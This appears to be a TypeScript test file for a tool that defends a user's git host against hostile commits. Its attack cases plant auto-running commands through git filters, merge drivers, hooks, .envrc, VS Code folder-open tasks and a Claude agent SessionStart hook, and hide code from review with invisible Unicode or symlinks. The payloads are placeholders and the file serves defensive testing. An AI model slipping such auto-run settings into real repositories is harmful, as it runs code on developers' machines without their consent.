import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { run } from '../../lib/processes/spawn.ts'
import type { Held, LeftBehind, NaiveHost, UserSide } from '../attack.ts'
import { fetches, naiveGit, receiverOf } from '../naive-hosts.ts'

const publishing = { kind: 'left-behind', rule: 'publishing runs nothing' } as const
const waits = { kind: 'left-behind', rule: 'what runs by itself waits' } as const
const review = { kind: 'left-behind', rule: 'a review hides nothing' } as const

const held = (...paths: readonly string[]): Held => ({ held: paths })
const commit = (files: string): string => `git -C "$REPO" add -f ${files}; git -C "$REPO" commit -q -m Work`

/** Settings of the user's own repository. FIRE stands for a program that they installed, and that does what files tell it. */
const userHas =
  (...settings: readonly (readonly [name: string, value: string])[]) =>
  async ({ project, fire }: UserSide): Promise<void> => {
    for (const [name, value] of settings) await naiveGit(project, ['config', name, value.replace('FIRE', fire)])
  }

const merges: NaiveHost = fetches(['HEAD'], async () => [], ['merge', '--quiet', '--no-edit', 'FETCH_HEAD'])

/** Merges, and then what the user has set up enters the folder: a shell that reads a file there, say. */
const enters = (path: string): NaiveHost =>
  fetches(
    ['HEAD'],
    async (receiver) => {
      await run('sh', [path], { cwd: receiver })
      return []
    },
    ['merge', '--quiet', '--no-edit', 'FETCH_HEAD'],
  )

/** Starts whatever the settings of an editor or an agent name as a command, as those do. */
const obeysSettings = (path: string): NaiveHost =>
  fetches(
    ['HEAD'],
    async (receiver) => {
      const [, command = ''] = /"command": *"([^"]+)"/.exec(await readFile(join(receiver, path), 'utf8')) ?? []
      await run('sh', ['-c', command], { cwd: receiver })
      return []
    },
    ['merge', '--quiet', '--no-edit', 'FETCH_HEAD'],
  )

/** What `git diff` prints, as it is, or as counts alone. */
const showsDiff =
  (args: readonly string[], isHarm: (said: string, victim: string) => boolean, harm: string): NaiveHost =>
  async (fixture) => {
    const receiver = receiverOf(fixture)
    await naiveGit(receiver, ['fetch', '--quiet', fixture.repo, 'HEAD'])
    const said = await naiveGit(receiver, ['diff', ...args, 'main', 'FETCH_HEAD'])
    return isHarm(said, fixture.victim) ? [harm] : []
  }

/** What a commit has run on the user's host when it comes onto their branch, or once it is there. */
export const publishingAttacks: readonly LeftBehind[] = [
  {
    ...publishing,
    name: 'filter-of-the-user',
    tries: "Has a filter that the user's own settings name run on files of its making, by an attribute.",
    user: userHas(['filter.users.smudge', 'FIRE']),
    guest: `echo '*.dat filter=users' >"$REPO/.gitattributes"; echo evil >"$REPO/evil.dat"
      ${commit('.gitattributes evil.dat')}`,
    naive: merges,
    // No checkout is right without the filter, so that is left to the user's own git.
    ends: { held: ['.gitattributes'], accepted: 'kept' },
  },
  {
    ...publishing,
    name: 'lfs-server-of-its-own',
    tries: "Has the user's Git LFS ask a server of its choosing for an object whose name is what it has read.",
    user: userHas(['filter.lfs.smudge', 'FIRE']),
    guest: `printf '[lfs]\\n\\turl = http://127.0.0.1:9/evil\\n' >"$REPO/.lfsconfig"
      echo '*.bin filter=lfs diff=lfs merge=lfs -text' >"$REPO/.gitattributes"
      printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%064d\\nsize 5\\n' 7 >"$REPO/m.bin"
      ${commit('.lfsconfig .gitattributes m.bin')}`,
    naive: merges,
    ends: held('.gitattributes', '.lfsconfig'),
  },
  {
    ...publishing,
    name: 'merge-driver-of-the-user',
    tries: 'Has a merge driver of the user run on a file that both changed.',
    user: async (side) => {
      await userHas(['merge.users.driver', 'FIRE'])(side)
      await writeFile(join(side.project, 'a.txt'), 'zero\none\n')
      await naiveGit(side.project, ['commit', '--quiet', '--all', '--message=Meanwhile'])
    },
    guest: `echo 'a.txt merge=users' >"$REPO/.gitattributes"; ${commit('.gitattributes')}
      printf 'one\\n\\n\\n\\ntwo\\n' >"$REPO/a.txt"; ${commit('a.txt')}`,
    naive: fetches(['HEAD'], async () => [], ['checkout', '--quiet', 'FETCH_HEAD'], ['rebase', '--quiet', 'main']),
    ends: held('.gitattributes'),
  },
  {
    ...publishing,
    name: 'hook-of-the-user',
    tries: "Commits a program where the user's own settings look for hooks.",
    user: userHas(['core.hooksPath', 'scripts']),
    guest: `mkdir "$REPO/scripts"
      for name in post-merge post-checkout reference-transaction post-index-change post-rewrite; do
        printf '#!/bin/sh\\n%s\\n' "$FIRE" >"$REPO/scripts/$name"; chmod 755 "$REPO/scripts/$name"; done
      ${commit('scripts')}`,
    naive: merges,
  },
  {
    ...waits,
    name: 'shell-enters-the-folder',
    tries: "Commits a file that the user's shell runs on entering the folder.",
    guest: `echo "$FIRE" >"$REPO/.envrc"; ${commit('.envrc')}`,
    naive: enters('.envrc'),
    ends: held('.envrc'),
  },
  {
    ...waits,
    name: 'settings-with-a-command',
    tries: "Commits settings of the user's editor and of their own agent, each with a command.",
    guest: `mkdir -p "$REPO/.vscode" "$REPO/sub/.claude"
      echo "{ \\"tasks\\": [{ \\"command\\": \\"$FIRE\\", \\"runOptions\\": { \\"runOn\\": \\"folderOpen\\" } }] }" >"$REPO/.vscode/tasks.json"
      echo "{ \\"hooks\\": { \\"SessionStart\\": [{ \\"command\\": \\"$FIRE\\" }] } }" >"$REPO/sub/.claude/settings.json"
      ${commit('.vscode sub')}`,
    naive: obeysSettings('.vscode/tasks.json'),
    ends: held('.vscode/tasks.json', 'sub/.claude/settings.json'),
  },
  {
    ...waits,
    name: 'settings-through-a-link',
    tries: 'Commits such settings under a plain name, and a link to them under the name that is obeyed.',
    guest: `mkdir "$REPO/setup"; echo "{ \\"command\\": \\"$FIRE\\" }" >"$REPO/setup/settings.json"
      ln -s setup "$REPO/.claude"; ${commit('.claude setup')}`,
    naive: obeysSettings('.claude/settings.json'),
    ends: held('.claude', 'setup/settings.json'),
  },
  {
    ...review,
    name: 'text-that-is-not-seen',
    tries: 'Hides what a line does behind characters that turn it around, have no width, or are not shown at all.',
    guest: String.raw`printf 'safe=1 # \342\200\256 \342\201\246 evil \342\201\251\nname\342\200\213=1 # \363\240\201\201\n' >"$REPO/.envrc"
      ${commit('.envrc')}`,
    naive: showsDiff(
      [],
      (said) => said.includes('\u202e') && said.includes('\u{e0041}'),
      'showed a line that hides what it does',
    ),
    ends: {
      held: ['.envrc'],
      shows: () => ['⟪U+202E⟫', '⟪U+2066⟫', '⟪U+200B⟫', '⟪U+E0041⟫', 'hidden characters in .envrc'],
    },
  },
  {
    ...review,
    name: 'link-among-the-files',
    tries: 'Commits a link to a folder of the host, for a review that counts lines.',
    guest: `ln -s "$VICTIM" "$REPO/.vscode"; ${commit('.vscode')}`,
    naive: showsDiff(
      ['--stat'],
      (said, victim) => said.includes('.vscode') && !said.includes(victim),
      'did not say where the link leads',
    ),
    ends: { held: ['.vscode'], shows: ({ victim }) => [victim, '120000'] },
  },
]
